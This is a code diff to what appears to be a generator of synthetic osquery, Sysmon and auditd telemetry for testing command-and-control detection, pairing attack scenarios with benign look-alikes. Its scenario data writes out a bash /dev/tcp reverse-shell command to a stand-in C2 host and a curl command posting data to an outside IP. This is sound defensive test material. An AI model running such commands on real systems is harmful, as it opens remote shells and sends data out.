@@ -623,6 +623,16 @@ def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2
         ("time", int(when))]))
 
 
+def _es_exec(rec, host, when, pid, path, cmdline, parent, uid=501):
+    """An es_process_events exec row (macOS EndpointSecurity), the query joining the parent's
+    path from processes (``parent`` = (pid, path))."""
+    rec.osquery(host, when, "pack_c2hunt_es_process_events", collections.OrderedDict([
+        ("event_type", "exec"), ("pid", pid), ("path", path), ("cmdline", cmdline),
+        ("parent", parent[0]), ("parent_path", parent[1]), ("uid", uid),
+        ("signing_id", "com.apple." + path.rsplit("/", 1)[-1]), ("team_id", ""),
+        ("platform_binary", 1), ("time", int(when))]))
+
+
 @scenario
 def x5_osquery_raw_socks(rec, t0):
     """macOS and Linux via osquery (AN1256, AN1255's programs): an implant in /private/tmp
@@ -902,7 +912,8 @@ def x8_unix_scripted_app_c2(rec, t0):
     Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
     archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
     (auditd); on a Mac, an Automator application whose shell step runs curl against its
-    server every 30 s (osquery socket_events, and process_open_sockets with the parent)."""
+    server every 30 s (osquery es_process_events and socket_events, and process_open_sockets
+    with the parent)."""
     lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
     implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
                                        "python3 /tmp/.X11-cache/update.py", "www-data")
@@ -916,8 +927,11 @@ def x8_unix_scripted_app_c2(rec, t0):
                                           "resp_bytes": rec.rng.randint(300, 500)})
     shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
     shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
-                           ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.90/443; cat <&5 | bash >&5"],
+                           ["bash", "-c", "exec 5<>/dev/tcp/upd.example-c2.net/443; cat <&5 | bash >&5"],
                            uid=33, auid=4294967295)
+    # bash resolves the redirection's host name itself (glibc connects its UDP socket to the
+    # resolver), then connects to the handler
+    rec.linux_connect(shell_host, t0 + 30.005, shell, RESOLVER, 53)
     rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
     bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
                          uid=33, auid=4294967295)
@@ -927,6 +941,9 @@ def x8_unix_scripted_app_c2(rec, t0):
     for beat in range(12):
         when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
         pid = 8800 + 3 * beat
+        _es_exec(rec, mac, when - 0.05, pid, "/usr/bin/curl",
+                 "curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync",
+                 parent=(8790, stub))
         _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
         if beat == 0:
             _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
@@ -939,7 +956,9 @@ def x8_unix_scripted_app_c2(rec, t0):
 def benign_unix_scripted_tools(rec, t0):
     """The quiet counterpart of x8: the same tools doing everyday work. pip and curl fetching
     from outside servers on 443 (a few irregular connections), a Python monitoring agent
-    reporting every 15 s to the internal collector on 8443, netcat checking an internal port
+    reporting every 15 s to the internal collector on 8443, Azure's Linux agent (Python)
+    polling the WireServer, a curl health-check loop against an internal service (its name
+    lookups go to a public resolver), netcat checking an internal port
     (Sysmon for Linux, auditd); on a Mac, curl from Terminal, Homebrew fetching bottles and
     mDNSResponder on 5353 multicast (osquery)."""
     lnx = Host("lnx41.corp.example", "10.20.2.61", "linux")
@@ -955,12 +974,25 @@ def benign_unix_scripted_tools(rec, t0):
                                      "monitor")
     for beat in range(60):
         rec.linux_sysmon_connection(lnx, agent, t0 + 6 + 15.0 * beat, "tcp", "10.20.0.40", 8443)
+    # on an Azure VM, the Linux agent (Python) polls the WireServer every 10 s
+    waagent = rec.linux_sysmon_process(lnx, t0 + 3, "/usr/bin/python3.11",
+                                       "python3 -u /usr/sbin/waagent -run-exthandlers", "root")
+    for beat in range(40):
+        rec.linux_sysmon_connection(lnx, waagent, t0 + 4 + 10.0 * beat, "tcp", "168.63.129.16", 80)
     admin = Host("lnx42.corp.example", "10.20.2.62", "linux")
     nc = rec.linux_exec(admin, t0 + 20, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.0.20", "445"])
     rec.linux_connect(admin, t0 + 20.1, nc, "10.20.0.20", 445)
     wget = rec.linux_exec(admin, t0 + 40, "/usr/bin/wget",
                           ["wget", "https://downloads.example.org/tool-1.2.tar.gz"])
     rec.linux_connect(admin, t0 + 40.3, wget, "93.184.216.34", 443)
+    # a health check run by a shell loop every minute on a host that resolves through a
+    # public resolver: glibc connects curl's UDP socket to 1.1.1.1:53 before each request
+    # to the internal service
+    for beat in range(15):
+        check = rec.linux_exec(admin, t0 + 100 + 60.0 * beat, "/usr/bin/curl",
+                               ["curl", "-fsS", "http://app01.corp.example:8080/health"])
+        rec.linux_connect(admin, t0 + 100.01 + 60.0 * beat, check, "1.1.1.1", 53)
+        rec.linux_connect(admin, t0 + 100.05 + 60.0 * beat, check, "10.20.0.31", 8080)
     mac = Host("mac43.corp.example", "10.20.6.43", "macos")
     _socket_event(rec, mac, t0 + 10, 9101, "/usr/bin/curl", ("140.82.112.3", 443))
     _open_socket(rec, mac, t0 + 10.2, 9101, "/usr/bin/curl", 2, 6, remote=("140.82.112.3", 443),
